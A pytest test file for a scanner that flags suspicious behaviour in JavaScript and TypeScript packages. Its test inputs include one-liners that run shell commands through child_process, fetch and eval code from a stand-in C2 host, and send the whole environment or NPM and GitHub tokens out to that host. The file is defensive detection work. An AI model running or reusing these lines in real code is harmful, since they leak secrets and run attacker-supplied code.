"""JavaScript and TypeScript: names through modules and aliases, what flows where, when it runs, and what is handed on."""

import pytest

from pratique.errors import InvalidInput
from pratique.facts.scan.languages.javascript import LANGUAGE
from pratique.facts.scan.observation import Context, How
from tests.facts.languages.javascript_seen import all_of, labels, only, seen


@pytest.mark.parametrize(
    "text",
    [
        "require('child_process').exec('id')",
        "const cp = require('node:child_process'); cp.exec('id')",
        "const { exec } = require('child_process'); exec('id')",
        "const { exec: run } = require('child_process'); run('id')",
        "const { ['exec']: run } = require('child_process'); require('child_process')['exec']('id')",
        "let cp; try { cp = require('child_process') } catch {} cp.exec('id')",
        "import cp from 'child_process'; cp.exec('id')",
        "import * as cp from 'child_process'; cp.exec('id')",
        "import { exec as run } from 'node:child_process'; run('id')",
        "const cp = await import('child_process'); cp.exec('id')",
        "const run = require('util').promisify(require('child_process').exec); run('id')",
        "const cp = __importStar(require('child_process')); cp.exec('id')",
        "var cp = _interopRequireDefault(require('child_process')); cp.default.exec('id')",
        "const cp = process.mainModule.require('child_process'); cp.exec('id')",
        "const m = module.constructor._load('child_process'); m.exec('id')",
        "const r = require('module').createRequire(import.meta.url); r('child_process').exec('id')",
        "const run = require('child_process').exec.bind(null); run('id')",
        "require('child_process').exec.call(null, 'id')",
        "require('child_process').exec.apply(null, ['id'])",
        "Reflect.apply(require('child_process').exec, null, ['id'])",
        "(0, require('child_process').exec)('id')",
        "function cp() { return require('child_process') } cp().exec('id')",
        "const get = () => require('child_process'); get().exec('id')",
        "function run(cp) { cp.exec('id') } run(require('child_process'))",
        "(function (cp) { cp.exec('id') })(require('child_process'))",
        "class A { constructor() { this.cp = require('child_process') } go() { this.cp.exec('id') } }",
        "const tools = { cp: require('child_process') }; tools.cp.exec('id')",
        "exports.cp = require('child_process'); exports.cp.exec('id')",
        "const load = require; load('child_process').exec('id')",
        "eval('require')('child_process').exec('id')",
        "Function('return process')().mainModule.require('child_process').exec('id')",
        "global.process.mainModule.require('child_process').exec('id')",
        "var e = {7: (t) => { t.exports = require('child_process') }}; var n = load(e); n(7).exec('id')",
    ],
)
def test_a_command_is_seen_behind_every_way_to_its_function(text: str) -> None:
    found = only(text, "proc.shell")
    assert found.text == "child_process.exec(id)"


@pytest.mark.parametrize(
    "text",
    [
        "const cp = require('./child_process'); cp.exec('id')",
        "const exec = (line) => line; exec('id')",
        "/x/.exec('id')",
        "const child_process = { exec() {} }; child_process.exec('id')",
        "function f(require) { require('child_process').exec('id') }",
        "// require('child_process').exec('id')",
        "const text = \"require('child_process').exec('id')\"",
    ],
)
def test_what_is_only_called_alike_is_not_taken_for_it(text: str) -> None:
    assert "proc.shell" not in labels(text)


def test_types_of_typescript_and_elements_of_react_are_read() -> None:
    text = (
        "import { exec } from 'child_process'; const run = (line: string): void => { exec(line as string) }; run('id');"
    )
    assert only(text, "proc.shell", "package/a.ts").text == "child_process.exec(id)"
    assert "net.http" in labels("const A = () => <b onClick={() => fetch('https://c2.example.invalid')}>x</b>", "a.tsx")
    assert "net.http" in labels("import x = require('https'); x.get('https://c2.example.invalid')", "package/a.cts")


def test_types_of_flow_in_a_plain_file_are_read() -> None:
    text = "/* @flow */ import type { A } from './a'; export function go(a: A, n?: number): void "
    text += "{ fetch('https://c2.example.invalid') }"
    assert "net.http" in labels(text)


@pytest.mark.parametrize(
    "text",
    [
        "eval(await (await fetch('https://c2.example.invalid')).text())",
        "fetch('https://c2.example.invalid').then((r) => r.text()).then(eval)",
        "axios.get('https://c2.example.invalid').then(({ data }) => eval(data))",
        "const { data } = await require('axios').get('https://c2.example.invalid'); eval(data.x)",
        "const got = require('got'); got('https://c2.example.invalid').then((r) => eval(r.body))",
        "require('request')('https://c2.example.invalid', (e, r, b) => eval(b))",
        "require('https').get('https://c2.example.invalid', (r) => r.on('data', (d) => eval(d.toString())))",
        (
            "let t = ''; require('https').get('https://c2.example.invalid', (r) => { r.on('data', (d) => (t += d)); "
            "r.on('end', () => eval(t)) })"
        ),
        (
            "const p = []; require('https').get('https://c2.example.invalid', (r) => { r.on('data', (d) => p.push(d)); "
            "r.on('end', () => eval(p.join(''))) })"
        ),
        "async function g() { return (await fetch('https://c2.example.invalid')).text() } g().then((t) => eval(t))",
        (
            "const g = (u, cb) => require('https').get(u, (r) => r.on('data', (d) => cb(d))); "
            "g('https://c2.example.invalid', (d) => eval(d))"
        ),
        "const x = new XMLHttpRequest(); x.open('GET', 'https://c2.example.invalid'); x.onload = () => eval(x.responseText)",
        "try { await axios.get('https://c2.example.invalid') } catch (e) { eval(e.response.data) }",
        "const o = {}; o.text = await (await fetch('https://c2.example.invalid')).text(); eval(o.text)",
        "const all = await Promise.all([fetch('https://c2.example.invalid')]); eval(all[0])",
        "import('https://c2.example.invalid/a.mjs')",
    ],
)
def test_what_is_fetched_flows_into_what_runs_it(text: str) -> None:
    assert any("net.http" in each.inputs for each in all_of(text, "code.exec")), seen(text).observations


def test_a_loader_of_what_its_caller_names_is_no_file_that_fetches_code() -> None:
    loader = "exports.load = async (url) => new Function(await (await fetch(url)).text())"
    assert only(loader, "code.exec").inputs == frozenset()
    assert "net.http" in only(loader.replace("fetch(url)", "fetch('https://c2.example.invalid')"), "code.exec").inputs


@pytest.mark.parametrize(
    "text",
    [
        "require('https').request({ hostname: 'c2.example.invalid', method: 'POST' }).end(JSON.stringify(process.env))",
        "const r = require('https').request('https://c2.example.invalid'); r.write(JSON.stringify({ ...process.env })); r.end()",
        "fetch('https://c2.example.invalid', { method: 'POST', body: JSON.stringify(Object.entries(process.env)) })",
        "require('axios').post('https://c2.example.invalid', process.env)",
        "const { env } = process; require('axios').post('https://c2.example.invalid', env)",
        "const all = Object.assign({}, process.env); require('axios').post('https://c2.example.invalid', { all })",
        (
            "const e = process['env']; "
            "navigator.sendBeacon('https://c2.example.invalid', Buffer.from(JSON.stringify(e)).toString('hex'))"
        ),
        "const ws = new WebSocket('wss://c2.example.invalid'); ws.onopen = () => ws.send(JSON.stringify(process.env))",
        "for (const k in process.env) fetch('https://c2.example.invalid/?' + k + process.env[k])",
    ],
)
def test_the_whole_environment_flows_into_what_sends_it(text: str) -> None:
    found = [
        each for each in seen(text).observations if each.label.startswith("net.") and "read.env_all" in each.inputs
    ]
    assert found, seen(text).observations


@pytest.mark.parametrize(
    "text",
    [
        "require('axios').post('https://c2.example.invalid', { port: process.env.PORT })",
        "const { PORT } = process.env; fetch('https://c2.example.invalid/' + PORT)",
        "const config = { ...process.env }; fetch('https://c2.example.invalid/' + config.PORT)",
        "const config = parse(process.env); fetch('https://c2.example.invalid', { headers: { a: config.token } })",
        "require('child_process').spawn('x', { env: process.env }); fetch('https://c2.example.invalid')",
    ],
)
def test_one_variable_is_not_the_whole_environment(text: str) -> None:
    assert not [
        each for each in seen(text).observations if each.label.startswith("net.") and "read.env_all" in each.inputs
    ]


def test_secrets_among_the_variables_are_told_by_their_names() -> None:
    assert (
        only("fetch('https://c2.example.invalid', { headers: { a: process.env.NPM_TOKEN } })", "read.env_secret").line
        == 1
    )
    assert only("fetch(process.env.GITHUB_TOKEN)", "read.ci_token").text == "process.env.GITHUB_TOKEN"


@pytest.mark.parametrize(
    ("text", "context"),
    [
        ("fetch('https://c2.example.invalid')", Context.MODULE_TOP),
        ("(() => fetch('https://c2.example.invalid'))()", Context.MODULE_TOP),
        ("(async function () { await fetch('https://c2.example.invalid') })()", Context.MODULE_TOP),
        ("!function () { fetch('https://c2.example.invalid') }()", Context.MODULE_TOP),
        ("setTimeout(() => fetch('https://c2.example.invalid'), 10)", Context.MODULE_TOP),
        ("function main() { fetch('https://c2.example.invalid') } main()", Context.MODULE_TOP),
        ("const main = () => fetch('https://c2.example.invalid'); main()", Context.MODULE_TOP),
        ("class A { go() { fetch('https://c2.example.invalid') } } new A().go()", Context.MODULE_TOP),
        ("class A { constructor() { fetch('https://c2.example.invalid') } } new A()", Context.MODULE_TOP),
        ("require('fs').readFile('x', () => fetch('https://c2.example.invalid'))", Context.MODULE_TOP),
        ("exports.activate = () => fetch('https://c2.example.invalid')", Context.MODULE_TOP),
        ("module.exports = () => fetch('https://c2.example.invalid')", Context.FUNCTION),
        ("function main() { fetch('https://c2.example.invalid') } exports.main = main", Context.FUNCTION),
        ("button.on('click', () => fetch('https://c2.example.invalid'))", Context.FUNCTION),
        ("app.get('/', () => fetch('https://c2.example.invalid'))", Context.FUNCTION),
        ("exports.a = () => { (() => fetch('https://c2.example.invalid'))() }", Context.FUNCTION),
        ("class A { go() { fetch('https://c2.example.invalid') } } exports.A = A", Context.FUNCTION),
    ],
)
def test_code_runs_when_the_file_is_loaded_or_when_somebody_calls_it(text: str, context: Context) -> None:
    assert only(text, "net.http").context is context


def test_what_is_called_where_it_stands_belongs_to_the_function_around_it() -> None:
    text = (
        "exports.a = () => { fetch('https://a.example.invalid').then(() => { fetch('https://b.example.invalid') }) }\n"
    )
    text += "exports.b = () => fetch('https://c.example.invalid')"
    units = {each.text: each.unit for each in all_of(text, "net.http")}
    assert units["fetch(https://a.example.invalid)"] == units["fetch(https://b.example.invalid)"]
    assert units["fetch(https://c.example.invalid)"] != units["fetch(https://b.example.invalid)"]


def test_command_lines_and_code_go_on_to_their_languages() -> None:
    waiting = {
        (each.language, each.data)
        for each in seen("require('child_process').exec('curl a | sh'); eval('1 + 1')").waiting
    }
    assert waiting == {("shell", b"curl a | sh"), ("javascript", b"1 + 1")}
    inner = seen("require('child_process').spawn('bash', ['-c', 'id'])").waiting
    assert [(each.language, each.data) for each in inner] == [("shell", b"id")]
    told = seen(
        "require('child_process').spawn(process.execPath, ['-e', 'eval(1)'], { detached: true, stdio: 'ignore' })"
    )
    assert [(each.language, each.data) for each in told.waiting] == [("javascript", b"eval(1)")]
    assert {"proc.inline_code", "proc.silent"} <= {each.label for each in told.observations}


def test_code_in_a_text_is_handed_on_with_what_it_went_through() -> None:
    (inner,) = seen("eval(Buffer.from('MSArIDE=', 'base64').toString())").waiting
    assert (inner.data, inner.how, inner.inputs) == (b"1 + 1", How.DECODED, frozenset({"decode.base"}))


def test_files_of_the_package_that_are_started_are_named() -> None:
    text = "const { fork, spawn } = require('child_process'); fork('./lib/a.js'); "
    text += "spawn('node', [require('path').join(__dirname, 'b.mjs')])"
    assert {each.text for each in all_of(text, "code.own_file")} == {"./lib/a.js", "b.mjs"}


def test_a_computed_name_is_told_apart_from_a_written_one() -> None:
    hidden = only("globalThis['ev' + 'al']('1')", "code.reflected_builtin")
    assert (hidden.text, hidden.how) == ("eval", How.RESOLVED)
    assert "code.reflected_builtin" not in labels("globalThis['eval']('1')")
    assert "code.reflected_builtin" not in labels("const cp = require('child_process'); cp['exec']('id')")


def test_ways_of_old_libraries_to_the_global_object_are_nothing() -> None:
    for text in ("Function('return this')()", 'eval("require")', "new Function('\"use strict\";return this')()"):
        assert "code.exec" not in labels(text)


def test_what_is_no_text_is_not_read() -> None:
    for data in (b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0" * 40, bytes(range(32)) * 40):
        with pytest.raises(InvalidInput):
            seen(data)
    with pytest.raises(InvalidInput, match="hardly anything"):
        seen("This is a page about require('child_process'). It has a few words, and none of them is code! " * 4)


def test_a_null_byte_hides_nothing() -> None:
    assert "proc.shell" in labels("const a = 'x\0y'; require('child_process').exec('id')")


def test_a_text_of_wider_characters_is_read() -> None:
    data = "\ufeffrequire('child_process').exec('id')".encode("utf-16-le")
    assert "proc.shell" in {each.label for each in seen(data).observations}


@pytest.mark.parametrize(
    ("path", "head", "claimed"),
    [
        ("a/b.js", b"", True),
        ("a/b.mjs", b"", True),
        ("a/b.cts", b"", True),
        ("a/b.tsx", b"", True),
        ("a/b.d.ts", b"", False),
        ("a/b.json", b"", False),
        ("bin/run", b"#!/usr/bin/env node\n", True),
        ("bin/run", b"#!/bin/sh\n", False),
    ],
)
def test_files_are_claimed_by_their_names_or_their_first_line(path: str, head: bytes, *, claimed: bool) -> None:
    assert LANGUAGE.claims(path, head) is claimed
